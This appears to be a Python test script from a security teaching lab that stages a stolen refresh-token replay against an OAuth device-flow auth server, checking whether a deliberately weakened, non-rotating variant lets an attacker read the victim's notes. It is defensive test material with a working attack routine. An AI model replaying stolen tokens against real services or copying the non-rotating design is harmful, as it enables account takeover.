"""Replaying a stolen refresh token.

Carol's command-line app holds a refresh token. Mallory copies it (from a
backup of Carol's laptop). Carol's app goes on refreshing as usual; later,
Mallory sends her copy.
"""
import urllib.parse

import lab

# The weak target: step 11 with weak_refresh_replay.patch, a naive twin whose
# refresh tokens never rotate: the same one works until it expires.
WEAK = "patch"
PATCH = "weak_refresh_replay.patch"
MAX_REQUESTS = 20
MAX_SECONDS = 120      # a safety stop, not a timing: each login costs a real scrypt

CAROL_PASSWORD = "carol has a long passphrase nobody guesses"
SECRET = "the spare key is under the third flowerpot"
CLIENT_ID = "flask-auth-cli"
DEVICE_CODE_GRANT = "urn:ietf:params:oauth:grant-type:device_code"


def attack(target):
    carol = logged_in(target, "carol", CAROL_PASSWORD)
    carol.post("/notes", json={"text": SECRET})
    app = target.client("carol's app")
    stolen = signed_in(app, carol)
    evidence = ["carol's app signs in; mallory copies its refresh token"]
    carols = refresh(app, stolen)
    evidence.append(f"  carol's app refreshes: {carols.status}")
    if carols.status != 200:
        raise lab.Missing(f"a refresh answered {carols.status}: no refresh tokens")
    mallorys = refresh(target.client("mallory"), stolen)
    evidence.append(f"  mallory sends the copy: {mallorys.status} {(mallorys.json or {}).get('error', 'new tokens')}")
    if mallorys.status == 200:
        notes = target.client("mallory").get(
            "/notes", headers={"Authorization": f"Bearer {mallorys.json['access_token']}"})
        evidence.append(f"  mallory's new access token: GET /notes -> {notes.status}")
        if SECRET in notes.text:
            evidence.append("mallory reads carol's notes, and can refresh for weeks: nothing told the two apart")
            return lab.Outcome(got_through=True, evidence=evidence)
    again = refresh(app, carols.json["refresh_token"])
    evidence.append(f"  carol's app refreshes with its new token: {again.status} {(again.json or {}).get('error')}")
    evidence.append("a used token came back, so two parties held it: the whole family is revoked, "
                    "mallory's copy and carol's new token alike; carol approves a new code, mallory has nothing")
    return lab.Outcome(got_through=False, evidence=evidence)


def signed_in(app, browser):
    started = app.post("/auth/device", data=form(client_id=CLIENT_ID))
    if started.status != 200:
        raise lab.Missing(f"POST /auth/device answered {started.status}: no device flow")
    browser.post("/auth/device/approve", json={"user_code": started.json["user_code"]})
    tokens = app.post("/auth/token", data=form(grant_type=DEVICE_CODE_GRANT,
                                               device_code=started.json["device_code"], client_id=CLIENT_ID))
    if tokens.status != 200:
        raise lab.Missing(f"POST /auth/token answered {tokens.status}")
    return tokens.json["refresh_token"]


def refresh(client, token):
    return client.post("/auth/token", data=form(grant_type="refresh_token", refresh_token=token, client_id=CLIENT_ID))


def logged_in(target, name, password):
    target.verified_user(name, f"{name}@example.com", password)
    browser = target.client(name)
    answer = browser.post("/auth/login", json={"username": name, "password": password})
    if answer.status != 200:
        raise lab.Missing(f"{name}'s login answered {answer.status}")
    return browser


def form(**fields):
    return urllib.parse.urlencode(fields).encode()
